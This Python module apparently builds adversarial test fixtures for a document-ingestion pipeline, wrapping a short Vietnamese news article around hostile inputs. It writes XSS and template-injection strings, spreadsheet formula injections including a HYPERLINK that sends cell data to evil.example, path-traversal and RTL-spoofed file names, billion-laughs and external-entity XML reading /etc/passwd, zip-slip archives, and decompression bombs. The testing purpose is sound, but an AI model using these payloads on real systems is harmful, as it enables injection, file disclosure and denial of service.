"""Pages made to do harm, written into a folder: what runs, what never ends, what grows without bound."""

from __future__ import annotations

import csv
import io
import json
import os
import zipfile
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq

from containers import docx, pdf_bomb, repacked

GOOD = """Thứ Hai, 05/08/2019, 10:00
Sơn La giảm 815 bản sau hai năm sắp xếp
Sau hai năm, tỉnh Sơn La đã giảm 815 bản và tiểu khu, còn 2.509 bản; nhiều chi bộ được ghép lại, nhiều \
nhà văn hóa được dùng chung.
Theo Sở Nội vụ, số người hoạt động không chuyên trách giảm mạnh, tiền bớt được dành trả thêm cho trưởng bản.
Lò Văn Minh"""
SCRIPT = "<script>alert('tinhgon')</script>"
IMAGE = "<img src=x onerror=alert('tinhgon')>"
BREAKOUTS = [
    SCRIPT,
    IMAGE,
    f"</script>{SCRIPT}",
    f"--></style></title>{SCRIPT}",
    f"]]>{SCRIPT}",
    f"\"'>{IMAGE}",
    "{{7*7}}",
    "${alert(1)}",
    "`",
    "<svg onload=alert(1)>",
    "<a href='javascript:alert(1)'>bấm</a>",
    "&lt;script&gt;",
    "<iframe src='data:text/html,x'></iframe>",
    "<base href='https://evil.example/'>",
    "\u2028alert(1)",
    "\u202ecod.exe\u202c",
]
FORMULAS = [
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=HYPERLINK('https://evil.example/?'&A1)",
    "\t=1+1",
]
ADDRESSES = [
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "file:///etc/passwd",
    " jAvAsCrIpT:alert(1)",
    "vbscript:x",
    "//evil.example/x",
    "https://evil.example\\@a.vn/",
]
NAMES = [
    "<script>alert(1)<!--.txt",
    "=cmd|' !A0.txt",
    "x\u202etxt.exe.txt",
    "a\nb.txt",
    "..%2f..%2fra.txt",
    "-rf.txt",
    "a#1.txt",
    '"onmouseover="alert(1).txt',
    "{{7*7}}.txt",
    "' OR 1=1.txt",
]
MOUNTAIN = "Tỉnh Lai Châu đã giảm 12 đầu mối và 40 biên chế so với năm 2017. "


def article(*lines: str) -> str:
    """The good page with more lines before its last."""
    *head, last = GOOD.split("\n")
    return "\n".join([*head, *lines, last])


def speaking(folder: Path) -> None:
    """Pages whose words, titles, names and addresses try to act: each is an article of its own."""
    folder.mkdir(parents=True)
    for at, text in enumerate(BREAKOUTS):
        lines = article(f"Tỉnh Sơn La {text} đã giảm {at + 30} xã {text} so với năm 2017.").split("\n")
        lines[1] = f"{text} Sơn La giảm {at + 30} xã {text}"
        (folder / f"b{at:02}.txt").write_text("\n".join(lines), encoding="utf-8")
        escaped = "\n".join(f"<p>{line}</p>" for line in lines)
        (folder / f"h{at:02}.html").write_text(
            f"<html><title>{text}</title>{escaped}</html>", encoding="utf-8"
        )
    for at, text in enumerate(FORMULAS):
        lines = article(text, f"{text} giảm {at + 50} xã").split("\n")
        lines[-1] = text
        (folder / f"f{at}.txt").write_text("\n".join(lines), encoding="utf-8")
    for at, name in enumerate(NAMES):
        (folder / name).write_text(article(f"Tỉnh giảm {at + 70} xã."), encoding="utf-8")
    (Path(os.fsdecode(os.fsencode(folder) + b"/\xff\xfe.txt"))).write_text(
        article("Giảm 90 xã."), encoding="utf-8"
    )
    rows = [{"text": article(f"Tỉnh giảm {at + 100} xã."), "url": url} for at, url in enumerate(ADDRESSES)]
    (folder / "addresses.jsonl").write_text("\n".join(map(json.dumps, rows)), encoding="utf-8")
    with (folder / "sources.csv").open("w", encoding="utf-8", newline="") as stream:
        out = csv.writer(stream)
        out.writerow(["source_file", "url", "publisher"])
        for at, (url, formula) in enumerate(zip(ADDRESSES, FORMULAS, strict=False)):
            out.writerow([f"b{at:02}.txt", url.strip(), formula.strip()])


# --- What never ends -------------------------------------------------------------------------------


def endless(folder: Path, many: int = 150_000) -> None:
    """Pages that are too long (one has `many` lines), too deep or too well packed, between two good ones; and
    things that are no files at all."""
    folder.mkdir(parents=True)
    for name in ("a-good.txt", "z-good.txt"):
        (folder / name).write_text(GOOD, encoding="utf-8")
    write = {
        "line.txt": article(MOUNTAIN * 130_000),
        "lines.txt": article(*(f"dòng {number}" for number in range(many))),
        "blank.txt": article("\n" * 3_000_000),
        "word.txt": article("x" * 10_000_000),
        "digits.txt": article("Tỉnh giảm " + "1" * 150_000 + " xã và " + "1," * 50_000 + " thôn."),
        "spaces.txt": article("Tỉnh giảm 5 bản" + " " * 150_000 + "và 6 xã (ảnh" + " " * 50_000),
        "marks.txt": article("Tỉnh giả" + "\u0301" * 150_000 + "m 5 xã."),
        "address.txt": article("Xem http://" + "!" * 5_000 + " và (((" + "(a)" * 20_000),
        "deep.html": f"<html><body>{'<div>' * 300_000}{GOOD}",
        "formats.html": f"<html><body>{'<b><p>' * 100_000}{GOOD}",
        "attributes.html": f"<html><body><p {'a=b ' * 300_000}>{GOOD}</p>",
        "angles.html": f"<html><body>{'<' * 1_000_000}{GOOD}",
        "comments.html": f"<html><body>{'<!--' * 200_000}{GOOD}",
        "entities.html": f"{laughing('<!DOCTYPE html ')}<html><body>&l39;<p>{GOOD}</p></body></html>",
        "entities.xhtml": f"<?xml version='1.0'?>{laughing('<!DOCTYPE html ')}<p>&l39;{GOOD}</p>",
    }  # fmt: skip
    for name, text in write.items():
        (folder / name).write_text(text, encoding="utf-8")
    with (folder / "gigabyte.txt").open("wb") as stream:
        stream.truncate(2**30)
    _packed(folder)
    os.mkfifo(folder / "pipe.txt")
    (folder / "zero.txt").symlink_to("/dev/zero")
    (folder / "gone.txt").symlink_to(folder / "nowhere")
    (folder / "round").symlink_to(folder, target_is_directory=True)


def laughing(opening: str) -> str:
    """Entities of entities: the last stands for 4 to the power of 39 letters."""
    rows = [f'<!ENTITY l{n} "&l{n - 1};&l{n - 1};&l{n - 1};&l{n - 1};">' for n in range(1, 40)]
    return f'{opening}[<!ENTITY l0 "ha"><!ENTITY f SYSTEM "file:///etc/passwd">{"".join(rows)}]>'


def _packed(folder: Path) -> None:
    body = "word/document.xml"
    word = docx(GOOD)
    text = zipfile.ZipFile(io.BytesIO(word)).read(body).decode()
    prolog, _, rest = text.partition("?>")
    laughed = f"{prolog}?>{laughing('<!DOCTYPE w ')}{rest}"
    parts = {
        "bomb.docx": {body: b"<a>" + b" " * (300 << 20) + b"</a>"},
        "picture.docx": {"word/media/a.png": b"\0" * (300 << 20)},
        "entities.docx": {body: laughed.replace("</w:t>", "&l39;</w:t>", 1).encode()},
        "outside.docx": {body: laughed.replace("</w:t>", "&f;</w:t>", 1).encode()},
        "traversal.docx": {"../../../../tmp/tinhgon-evil.txt": b"evil", "/tmp/tinhgon-evil.txt": b"evil"},
    }
    for name, changed in parts.items():
        (folder / name).write_bytes(repacked(word, changed))
    repeated = pa.DictionaryArray.from_arrays(pa.array([0] * 3000, pa.int32()), pa.array(["x" * 50_000_000]))
    pq.write_table(pa.table({"text": repeated}).slice(0, 2), folder / "bomb.parquet")
    large = pa.table({"text": [GOOD, "x" * (120 << 20), GOOD.replace("815", "816")]})
    pq.write_table(large, folder / "large.parquet", compression="zstd")
    (folder / "bomb.pdf").write_bytes(pdf_bomb(300_000_000))
